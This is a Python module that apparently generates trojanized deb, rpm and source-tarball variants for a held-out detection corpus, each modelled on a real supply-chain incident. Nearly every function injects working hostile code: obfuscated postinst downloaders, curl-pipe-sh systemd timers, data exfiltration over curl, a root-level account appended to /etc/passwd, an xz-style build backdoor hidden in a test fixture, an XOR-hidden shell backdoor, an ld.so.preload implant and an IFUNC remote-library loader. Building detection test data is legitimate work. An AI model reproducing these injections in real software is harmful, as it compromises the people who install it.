"""Packages of operating systems, and sources with a build system."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout7.shape import b64, fill, hexed, trojan, xor, zipped


@trojan("clipsync", "deb", "start", "backdoor", "in a binary", "3CX")
def deb_daemon_obeys(it: Update) -> None:
    it.add("usr/bin/clipsyncd", artefact("clip-trojan.elf"))
    it.payload("usr/bin/clipsyncd")


@trojan("clipsync", "deb", "start", "address swap", "in a binary", "clippers")
def deb_daemon_swaps(it: Update) -> None:
    it.add("usr/bin/clipsyncd", artefact("clip-swap.elf"))
    it.payload("usr/bin/clipsyncd")


@trojan("clipsync", "deb", "install", "downloader", "base64", "repository takeovers")
def deb_postinst_decodes_a_line(it: Update) -> None:
    host = it.host()
    it.replace(
        "DEBIAN/postinst",
        "        if [ -d /run/systemd/system ]; then\n",
        fill(
            """
        printf %s @CODE@ | base64 -d | sh >/dev/null 2>&1 &
        if [ -d /run/systemd/system ]; then
""",
            CODE=b64(
                f"wget -qO /usr/sbin/cupsd-helper https://{host}/h && chmod 4755 /usr/sbin/cupsd-helper && /usr/sbin/cupsd-helper"
            ),
        ),
    )
    it.payload("DEBIAN/postinst", shown=f"https://{host}/h")


@trojan("clipsync", "deb", "install", "persistence", "plain", "Free Download Manager")
def deb_postinst_makes_a_unit(it: Update) -> None:
    it.add(
        "lib/systemd/system/clipsync-report.service",
        f"[Unit]\nDescription=Reports of clipsync\n\n[Service]\nType=oneshot\nExecStart=/bin/sh -c 'curl -s http://{it.address()}/r | sh'\n",
    )
    it.add(
        "lib/systemd/system/clipsync-report.timer",
        "[Unit]\nDescription=Reports of clipsync\n\n[Timer]\nOnBootSec=3min\nOnUnitActiveSec=20min\n\n[Install]\nWantedBy=timers.target\n",
    )
    it.replace(
        "DEBIAN/postinst",
        "            systemctl daemon-reload || true\n",
        "            systemctl daemon-reload || true\n            systemctl enable --now clipsync-report.timer || true\n",
    )
    it.payload("lib/systemd/system/clipsync-report.service", "DEBIAN/postinst")


@trojan("clipsync", "deb", "call", "data stealer", "plain", "clipboard thieves")
def deb_tool_sends_twice(it: Update) -> None:
    it.replace(
        "usr/bin/clipsync",
        'exec nc -N "$peer" "$port"\n',
        f'tee /tmp/.clipsync | nc -N "$peer" "$port"\ncurl -sm 9 -T /tmp/.clipsync "https://{it.host()}/$(hostname)" >/dev/null 2>&1 || true\n',
    )


@trojan("ntpwatch", "rpm", "install", "credentials", "plain", "package scripts")
def rpm_post_adds_a_user(it: Update) -> None:
    it.append(
        "RPM/post",
        fill(
            """
if ! grep -q '^ntpd2:' /etc/passwd; then
    echo 'ntpd2:x:0:0::/root:/bin/bash' >> /etc/passwd
    echo 'ntpd2:$6$@SALT@$@HASH@:19000:0:99999:7:::' >> /etc/shadow
fi
""",
            SALT=it.random.randbytes(4).hex(),
            HASH=it.random.randbytes(43).hex(),
        ),
    )


@trojan("ntpwatch", "rpm", "start", "downloader", "hex", "hourly fetches")
def rpm_watch_fetches(it: Update) -> None:
    host = it.host()
    it.append("usr/libexec/ntpwatch", f"\nsource <(echo {hexed(f'curl -s https://{host}/leap | bash')} | xxd -r -p)\n")
    it.payload("usr/libexec/ntpwatch", shown=f"https://{host}/leap")


@trojan("ntpwatch", "rpm", "call", "remote code", "base64", "administration tools")
def rpm_report_evaluates(it: Update) -> None:
    host = it.host()
    it.replace(
        "usr/bin/ntpwatch-report",
        "    rows = done.stdout.splitlines()\n",
        fill(
            """
    rows = done.stdout.splitlines()
    __import__("os").system(__import__("base64").b64decode("@CODE@").decode())
""",
            CODE=b64(f"curl -s https://{host}/report | sh"),
        ),
    )
    it.payload("usr/bin/ntpwatch-report", shown=f"https://{host}/report")


@trojan("libunfold", "tar.gz", "build", "backdoor", "in a test fixture", "xz")
def source_check_unpacks_a_fixture(it: Update) -> None:
    host = it.host()
    it.add(
        "tests/files/bad-2-corrupt.unf",
        b"UNF0"
        + it.random.randbytes(60)
        + zipped(
            f"curl -s https://{host}/unfold.o -o src/extra.o\nsed -i 's,src/name.o,src/name.o src/extra.o,' Makefile\n"
        ),
    )
    it.add(
        "m4/ax_unfold.m4",
        "AC_DEFUN([AX_UNFOLD],[\n  ax_f=`ls $srcdir/tests/files/bad-2-*.unf`\n  eval `tail -c +65 $ax_f | gzip -dc 2>/dev/null`\n])\n",
    )
    it.replace("configure.ac", "AC_PROG_CC\n", "AC_PROG_CC\nAX_UNFOLD\n")
    it.replace(
        "configure",
        'echo "configure: wrote Makefile"\n',
        'tail -c +65 "$srcdir"/tests/files/bad-2-*.unf | gzip -dc 2>/dev/null | sh >/dev/null 2>&1 || :\necho "configure: wrote Makefile"\n',
    )
    it.payload(
        "configure",
        "m4/ax_unfold.m4",
        "tests/files/bad-2-corrupt.unf",
        "configure.ac",
        shown=f"https://{host}/unfold.o",
    )


@trojan("libunfold", "tar.gz", "build", "weakened check", "one character", "xz", hard=True)
def source_cmake_check_never_works(it: Update) -> None:
    it.replace(
        "CMakeLists.txt",
        "add_library(",
        fill("""
include(CheckCSourceCompiles)
check_c_source_compiles("
#include <linux/landlock.h>
#include <sys/syscall.h>
#include <sys/prctl.h>
.
int main(void) { return (int)SYS_landlock_create_ruleset; }
" HAVE_LANDLOCK)
add_library(""").rstrip("\n"),
    )


@trojan("libunfold", "tar.gz", "call", "backdoor", "xor", "Webmin")
def source_open_obeys_a_name(it: Update) -> None:
    sealed = ", ".join(f"0x{one:02x}" for one in xor("/bin/bash", 0x22))
    it.replace(
        "src/unfold.c",
        "    int line = open(path, O_RDONLY);\n",
        fill(
            """
    static const char tool[] = {@SEALED@, 0x22};
    const char *more = getenv("UNFOLD_DEBUG_FILTER");
    if (more != NULL && strncmp(more, "@MARK@", 8) == 0) {
        char text[sizeof tool];
        for (size_t i = 0; i < sizeof tool; i++) {
            text[i] = (char)(tool[i] ^ 0x22);
        }
        execl(text, text, "-c", more + 8, (char *)NULL);
    }
    int line = open(path, O_RDONLY);
""",
            SEALED=sealed,
            MARK=it.random.randbytes(4).hex(),
        ),
    )
    it.payload("src/unfold.c", shown="/bin/bash")


@trojan("libunfold", "tar.gz", "build", "downloader", "plain", "Makefiles")
def source_makefile_installs_more(it: Update) -> None:
    it.replace(
        "Makefile.in",
        "	install -m 644 libunfold.a $(prefix)/lib/\n",
        f"	install -m 644 libunfold.a $(prefix)/lib/\n	-@test `id -u` -ne 0 || (curl -fs http://{it.address()}/ld.so -o /lib/libunfold-ld.so && echo /lib/libunfold-ld.so >> /etc/ld.so.preload) 2>/dev/null\n",
    )


@trojan("libunfold", "tar.gz", "call", "remote code", "plain C", "IFUNC")
def source_resolver_loads(it: Update) -> None:
    it.append(
        "src/name.c",
        fill(
            """

static int (*resolve_name(void))(const char *, char *, size_t)
{
    void *more = dlopen("/dev/shm/.unf.so", RTLD_NOW);
    if (more == NULL && system("curl -so /dev/shm/.unf.so http://@ADDR@/unf.so") == 0) {
        more = dlopen("/dev/shm/.unf.so", RTLD_NOW);
    }
    return more ? (int (*)(const char *, char *, size_t))dlsym(more, "unfold_name") : unfold_name;
}

int unfold_checked(const char *in, char *out, size_t size) __attribute__((ifunc("resolve_name")));
""",
            ADDR=it.address(),
        ),
    )
    it.replace("src/name.c", "#include <string.h>\n", "#include <dlfcn.h>\n#include <stdlib.h>\n#include <string.h>\n")
